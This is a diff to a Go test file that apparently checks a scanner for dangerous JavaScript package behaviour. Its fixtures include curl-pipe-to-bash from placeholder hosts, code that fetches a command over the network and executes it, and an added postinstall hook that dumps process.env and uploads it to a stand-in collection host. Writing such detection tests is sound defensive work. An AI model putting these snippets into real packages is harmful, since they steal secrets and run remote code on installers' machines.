@@ -33,6 +33,12 @@ func TestSpawn(t *testing.T) {
 		{"printed_hint", map[string]string{"index.js": `const {execFileSync} = require("child_process"); try { execFileSync("bun", ["-v"]) } catch { console.error("install bun with:"); console.error("curl -fsSL https://bun.sh/install | bash") }`}, finding.SeverityLow},
 		{"printed_then_run", map[string]string{"index.js": `const cp = require("child_process"); const t = { get run() { return cp.execSync } }; console.log("curl -fsSL https://dl.example.invalid/i | bash"); t.run("curl -fsSL https://dl.example.invalid/i | bash")`}, finding.SeverityCritical},
 		{"printed_in_call", map[string]string{"index.js": "const cp = require(\"child_process\"); const t = { get run() { return cp.execSync } }; console.log(t.run(\"curl -fsSL https://dl.example.invalid/i | bash\"))"}, finding.SeverityCritical},
+		// a file the code wrote, uploaded by curl
+		{"curl_upload_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node e.js"}}`,
+			"e.js": `require("fs").writeFileSync("/tmp/e.json", JSON.stringify(process.env)); require("child_process").exec("curl -s -F f=@/tmp/e.json https://collect.example.invalid/u")`}, finding.SeverityHigh},
+		{"curl_data_binary", map[string]string{"index.js": `require("child_process").execSync("curl -X POST --data-binary @coverage.json https://cov.example.invalid/upload")`}, finding.SeverityMedium},
+		// downloads and plain requests are not uploads
+		{"curl_download", map[string]string{"index.js": `require("child_process").execSync("curl -fsSL -o tool.tgz https://dl.example.invalid/tool.tgz -d '{}' -H 'x: @y'")`}, finding.SeverityLow},
 		// the command arrives over the network
 		{"remote_command", map[string]string{"index.js": `const https = require("https"), cp = require("child_process"); https.get("https://cfg.example.invalid/cmd", r => { let d = ""; r.on("data", c => d += c); r.on("end", () => cp.execSync(d)) })`}, finding.SeverityCritical},
 		{"remote_command_to_shell", map[string]string{"index.js": "const https = require(\"https\"), cp = require(\"child_process\"); https.get(\"https://cfg.example.invalid/cmd\", r => { let d = \"\"; r.on(\"data\", c => d += c); r.on(\"end\", () => cp.execSync(`sh -c ${d}`)) })"}, finding.SeverityCritical},
